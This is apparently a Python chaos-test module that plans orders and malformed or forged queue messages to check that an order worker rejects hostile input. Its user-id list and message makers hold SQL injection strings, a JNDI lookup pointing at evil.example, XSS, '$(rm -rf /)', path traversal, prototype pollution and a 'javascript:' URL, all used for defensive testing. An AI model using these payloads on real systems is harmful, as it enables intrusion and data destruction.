"""The plan of a run, drawn from the seed: the orders (:class:`PlannedOrder`: kind, channel, cancel,
send time) and the malformed messages (:class:`Malformed`), each checked against the worker's decoder.
"""

from __future__ import annotations

import json
import random
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from schema.messages import ORDER_ID_NAMESPACE, InvalidMessage, uuid5
from schema.topology import COMMAND_QUEUES, COMMANDS_EXCHANGE
from worker.commands import decode
from worker.rabbit.connection import Delivery
from worker.shim.orders import place_message_id

from .config import CATALOGUE, ChaosConfig, ChaosError

#: Stripe test card per kind of order
CARDS = {
    "visa": "pm_card_visa",
    "declined": "pm_card_chargeDeclined",
    "3ds": "pm_card_threeDSecure2Required",
    "3ds_fail": "pm_card_threeDSecure2Required",
    "internal_early": "pm_card_threeDSecure2Required",
}
#: share of each kind of order (the rest: visa)
KINDS = {
    "declined": 0.07,
    "3ds": 0.10,
    "3ds_fail": 0.02,
    "paypal": 0.12,
    "paypal_decline": 0.02,
    "unknown_product": 0.02,
    "internal_early": 0.03,
}
#: user ids a shop may really send: stored verbatim, never interpreted
HOSTILE_USERS = [
    "x'; DROP TABLE orders; --",
    "Robert'); DELETE FROM inbox; --",
    "1 OR 1=1",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "用户-🙂-ünïcødé",
    "$(rm -rf /)",
    "%s%s%s%n",
    "../../etc/passwd",
    "' UNION SELECT * FROM payments --",
]


@dataclass
class PlannedOrder:
    index: int
    order_id: str
    user: str
    kind: str
    channel: str  # bus | shim
    items: list[dict[str, Any]]
    total: int
    place_mid: str
    explicit_id: bool
    cancel: str | None  # None | before | after | shim | race (sent by the buyer right after paying)
    at: float

    @property
    def provider(self) -> str:
        return "paypal" if self.kind.startswith("paypal") else "stripe"

    def payment(self) -> dict[str, Any]:
        if self.provider == "paypal":
            return {
                "provider": "paypal",
                "return_url": "https://shop.example/paid",
                "cancel_url": "https://shop.example/cancelled",
            }
        return {"provider": "stripe", "payment_method": CARDS.get(self.kind, "pm_card_visa")}

    def place_body(self) -> dict[str, Any]:
        body: dict[str, Any] = {"user_id": self.user, "items": self.items, "payment": self.payment()}
        if self.explicit_id:
            body["order_id"] = self.order_id
        return body

    def cancel_body(self) -> dict[str, Any]:
        return {
            "order_id": self.order_id,
            "requested_by": {"user_id": self.user, "roles": ["user"]},
            "reason": "changed my mind (chaos run)",
        }


@dataclass
class Malformed:
    index: int
    category: str
    routing_key: str
    message_type: str | None
    message_id: str | None
    body: bytes
    content_type: str | None = "application/json"
    at: float = 0.0
    #: who publishes it: a sender role of the run (shop, fulfilment, payments, backoffice), or None for a
    #: message with no ``user_id`` (the shop's connection, the property left out)
    sender: str | None = "shop"
    #: what the worker does with it: ``invalid`` (dead-lettered: it can never be applied), ``unauthorized``
    #: (valid, but its sender may not send it: dead-lettered and announced), ``refused`` (valid and allowed,
    #: but what it claims about its sender does not count: refused and announced, nothing changes)
    expect: str = "invalid"


def load_products() -> list[dict[str, Any]]:
    products = json.loads(CATALOGUE.read_text(encoding="utf-8"))
    usable = [p for p in products if p.get("active", True) and p["currency"] == "USD"]
    if len(usable) < 3:
        raise ChaosError(f"{CATALOGUE} has fewer than three active USD products")
    return usable


def plan_orders(cfg: ChaosConfig, products: list[dict[str, Any]]) -> list[PlannedOrder]:
    rnd = random.Random(f"orders-{cfg.seed}")
    prices = {p["product_id"]: p["price"] for p in products}
    orders = []
    window = cfg.window
    for i in range(cfg.orders):
        draw, kind = rnd.random(), "visa"
        for name, share in KINDS.items():
            if draw < share:
                kind = name
                break
            draw -= share
        picks = rnd.sample(products, rnd.randint(1, 3))
        items = [{"product_id": p["product_id"], "quantity": rnd.randint(1, 4)} for p in picks]
        if kind == "unknown_product":
            items.append({"product_id": f"sku-missing-{i}", "quantity": 1})
        total = sum(it["quantity"] * prices.get(it["product_id"], 0) for it in items)
        hostile = kind in ("visa", "declined") and rnd.random() < 0.01
        user = rnd.choice(HOSTILE_USERS) if hostile else f"user-{rnd.randint(1, 500)}"
        channel = "shim" if not hostile and rnd.random() < cfg.shim_share else "bus"
        explicit = channel == "shim" or rnd.random() < 0.7
        oid = str(uuid.UUID(int=rnd.getrandbits(128), version=4))
        place_mid = f"chaos-{cfg.seed}-place-{i}"
        if not explicit:
            oid = uuid5(ORDER_ID_NAMESPACE, place_mid)
        if channel == "shim":
            place_mid = place_message_id(oid, user)
        cancel = None
        if kind in ("3ds", "paypal") and rnd.random() < 0.3:
            cancel = "race"  # the buyer pays and cancels at once: refunds, cancelled intents
        elif kind == "internal_early" and rnd.random() < 0.4:
            cancel = "before"  # cancel and payment confirmation both before the PlaceOrder
        elif kind != "internal_early" and rnd.random() < cfg.cancel_share:
            c = rnd.random()
            cancel = "before" if c < 0.35 else ("shim" if c < 0.5 and channel == "shim" else "after")
        at = window * i / cfg.orders + rnd.uniform(0, window / cfg.orders)
        orders.append(PlannedOrder(i, oid, user, kind, channel, items, total, place_mid, explicit, cancel, at))
    return orders


def _valid_place(rnd: random.Random) -> dict[str, Any]:
    return {
        "order_id": str(uuid.UUID(int=rnd.getrandbits(128), version=4)),
        "user_id": "mallory",
        "items": [{"product_id": "sku-mug-001", "quantity": 1}],
        "payment": {"provider": "stripe", "payment_method": "pm_card_visa"},
    }


def plan_malformed(cfg: ChaosConfig, orders: list[PlannedOrder]) -> list[Malformed]:
    """Messages a worker must dead-letter with a reason (never crash on, never apply)."""
    rnd = random.Random(f"malformed-{cfg.seed}")
    real_ids = [o.order_id for o in orders] or [str(uuid.uuid4())]
    keys = {"PlaceOrder": "order.place", "CancelOrder": "order.cancel", "PaymentConfirmed": "payment.confirmed"}
    queues = {key: queue for queue, key in COMMAND_QUEUES.items()}  # where each routing key delivers

    def place(**changes: Any) -> bytes:
        body = _valid_place(rnd)
        body.update(changes)
        return json.dumps({k: v for k, v in body.items() if v is not ...}).encode()

    def cancel(**changes: Any) -> bytes:
        body: dict[str, Any] = {
            "order_id": rnd.choice(real_ids),
            "requested_by": {"user_id": "mallory", "roles": ["user"]},
        }
        body.update(changes)
        return json.dumps(body).encode()

    def confirmed(**changes: Any) -> bytes:
        body: dict[str, Any] = {
            "order_id": rnd.choice(real_ids),
            "provider": "stripe",
            "payment_id": "pi_forged",
            "amount": 100,
            "currency": "USD",
            "event_id": f"evt_forged_{rnd.getrandbits(32)}",
        }
        body.update(changes)
        return json.dumps(body).encode()

    makers: list[tuple[str, Callable[[], tuple[str | None, bytes, dict[str, Any]]]]] = [
        (
            "bad JSON",
            lambda: (
                rnd.choice(list(keys)),
                rnd.choice(
                    [
                        b'{"user_id": "u1", "items": [',
                        b"\xff\xfe\x00garbage\x00",
                        b"",
                        b'{"a": 1}{"b": 2}',
                        b"{'single': 'quotes'}",
                        b"NaN",
                        b'{"order_id": "' + b"\\" * 3 + b'"}',
                    ]
                ),
                {},
            ),
        ),
        (
            "not an object",
            lambda: (rnd.choice(list(keys)), rnd.choice([b"null", b"[]", b'"text"', b"42", b"true"]), {}),
        ),
        (
            "unknown type",
            lambda: (
                rnd.choice(
                    ["DropTables", "placeorder", "", "StartPayment", "RefundPayment", "CapturePayment", "CancelPayment"]
                ),
                json.dumps({"order_id": rnd.choice(real_ids)}).encode(),
                {},
            ),
        ),
        ("missing type", lambda: (None, place(), {})),
        ("missing message_id", lambda: ("PlaceOrder", place(), {"message_id": None})),
        # (AMQP caps the property at 255 bytes; the contract at 200)
        ("message_id too long", lambda: ("PlaceOrder", place(), {"message_id": "m" * rnd.randint(201, 255)})),
        (
            "wrong types",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": "2"}]), {}),
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 2.5}]), {}),
                    ("PlaceOrder", place(items={"product_id": "sku-mug-001", "quantity": 1}), {}),
                    ("PlaceOrder", place(user_id=12345), {}),
                    ("PlaceOrder", place(order_id=12345), {}),
                    ("PlaceOrder", place(payment="stripe"), {}),
                    ("PlaceOrder", place(user_id=None), {}),
                    ("CancelOrder", cancel(requested_by="admin"), {}),
                    ("CancelOrder", cancel(requested_by={"user_id": "mallory", "roles": "admin"}), {}),
                    ("PaymentConfirmed", confirmed(amount="100"), {}),
                    ("PaymentConfirmed", confirmed(amount=1.5), {}),
                ]
            ),
        ),
        (
            "SQL injection",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(items=[{"product_id": "sku'; DROP TABLE orders;--", "quantity": 1}]), {}),
                    ("PlaceOrder", place(order_id="1' OR '1'='1"), {}),
                    ("CancelOrder", cancel(order_id="'; DELETE FROM orders WHERE '1'='1"), {}),
                    ("CancelOrder", cancel(requested_by={"user_id": "x", "roles": ["admin' OR 1=1 --"]}), {}),
                    ("PaymentConfirmed", confirmed(currency="USD'; UPDATE payments SET status='refunded'; --"), {}),
                    ("PaymentConfirmed", confirmed(provider="stripe' OR 'x'='x"), {}),
                ]
            ),
        ),
        (
            "huge strings",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(user_id="A" * 100_000), {}),
                    ("PlaceOrder", place(items=[{"product_id": "p" * 70_000, "quantity": 1}]), {}),
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 1}] * 5000), {}),
                    ("CancelOrder", cancel(reason="r" * 100_000), {}),
                    ("PaymentConfirmed", confirmed(event_id="e" * 50_000), {}),
                ]
            ),
        ),
        (
            "unknown fields",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(discount=100), {}),
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 1, "price": 1}]), {}),
                    ("PlaceOrder", place(__proto__={"admin": True}), {}),
                    ("CancelOrder", cancel(requested_by={"user_id": "mallory", "roles": ["user"], "admin": True}), {}),
                    ("PaymentConfirmed", confirmed(refund=True), {}),
                ]
            ),
        ),
        (
            "bad values",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 0}]), {}),
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": -3}]), {}),
                    ("PlaceOrder", place(items=[{"product_id": "sku-mug-001", "quantity": 10_001}]), {}),
                    ("PlaceOrder", place(items=[]), {}),
                    ("PlaceOrder", place(product_id="sku-mug-001", quantity=1), {}),
                    ("PlaceOrder", place(payment={"provider": "bitcoin"}), {}),
                    (
                        "PlaceOrder",
                        place(payment={"provider": "paypal", "return_url": "javascript:alert(1)", "cancel_url": "x"}),
                        {},
                    ),
                    ("CancelOrder", cancel(order_id="not-a-uuid"), {}),
                    ("PaymentConfirmed", confirmed(amount=-5), {}),
                    ("PaymentConfirmed", confirmed(currency="usd"), {}),
                ]
            ),
        ),
        (
            "wrong content type",
            lambda: (
                "PlaceOrder",
                place(),
                {"content_type": rnd.choice(["text/plain", "application/xml", "application/x-java-serialized-object"])},
            ),
        ),
        # a well-formed command routed into another command's queue
        (
            "wrong queue",
            lambda: rnd.choice(
                [
                    ("PlaceOrder", place(), {"routing_key": "order.cancel"}),
                    ("CancelOrder", cancel(), {"routing_key": "payment.confirmed"}),
                    ("PaymentConfirmed", confirmed(), {"routing_key": "order.place"}),
                ]
            ),
        ),
    ]
    out = []
    forged = plan_forged(rnd, orders, cfg, confirmed)
    for i in range(cfg.malformed - len(forged)):
        category, make = makers[i % len(makers)] if i < len(makers) else rnd.choice(makers)
        mtype, body, props = make()
        message_id = props.get("message_id", f"chaos-{cfg.seed}-bad-{i}")
        key = props.get("routing_key") or keys.get(mtype or "", rnd.choice(list(keys.values())))
        m = Malformed(
            i,
            category,
            key,
            mtype,
            message_id,
            body,
            props.get("content_type", "application/json"),
            at=rnd.uniform(0, cfg.window),
        )
        # the script's own check: the worker's decoder must refuse every one of them
        try:
            decode(
                Delivery(
                    0,
                    COMMANDS_EXCHANGE,
                    key,
                    queues[key],
                    body,
                    m.message_id,
                    mtype,
                    None,
                    None,
                    m.content_type,
                    {},
                    False,
                )
            )
        except InvalidMessage:
            pass
        else:
            raise ChaosError(f"malformed message {i} ({category}) is valid: a bug of the chaos script")
        out.append(m)
    for m in forged:
        m.index = len(out)
        m.message_id = f"chaos-{cfg.seed}-bad-{m.index}"
        out.append(m)
    return out


def plan_forged(
    rnd: random.Random, orders: list[PlannedOrder], cfg: ChaosConfig, confirmed: Callable[..., bytes]
) -> list[Malformed]:
    """Valid commands that claim more than their sender may (issue 20): a twentieth of the hostile messages.

    Sent after the order they name is planned, so none waits out the delay tiers for it.
    """
    if not orders:
        return []
    found: list[Malformed] = []
    for n in range(cfg.malformed // 20):
        o = rnd.choice(orders)
        at = min(cfg.window, o.at + rnd.uniform(1.0, 20.0))
        ship = json.dumps({"order_id": o.order_id, "shipment": {"carrier": "DHL", "tracking_number": f"F{n}"}})
        admin = {"order_id": o.order_id, "requested_by": {"user_id": "mallory", "roles": ["admin"]}}
        kind = n % 5
        if kind == 0:  # only the fulfilment service ships
            m = Malformed(0, "forged: ShipOrder from the shop", "order.ship", "ShipOrder", None, ship.encode())
            m.expect = "unauthorized"
        elif kind == 1:  # a confirmation naming Stripe comes only from the service's own webhook endpoint
            body = confirmed(order_id=o.order_id)
            m = Malformed(
                0,
                "forged: a Stripe confirmation from the payments service",
                "payment.confirmed",
                "PaymentConfirmed",
                None,
                body,
                sender="payments",
                expect="unauthorized",
            )
        elif kind == 2:
            body = confirmed(order_id=o.order_id)
            m = Malformed(
                0,
                "forged: a confirmation from the shop",
                "payment.confirmed",
                "PaymentConfirmed",
                None,
                body,
                expect="unauthorized",
            )
        elif kind == 3:  # no user_id at all
            body = json.dumps(_valid_place(rnd)).encode()
            m = Malformed(
                0, "forged: no user_id", "order.place", "PlaceOrder", None, body, sender=None, expect="unauthorized"
            )
        else:  # roles from the body do not count from the shop: judged as mallory's cancel of someone else's order
            m = Malformed(
                0,
                "forged: a self-declared admin's cancel",
                "order.cancel",
                "CancelOrder",
                None,
                json.dumps(admin).encode(),
                expect="refused",
            )
        m.at = at
        found.append(m)
    return found
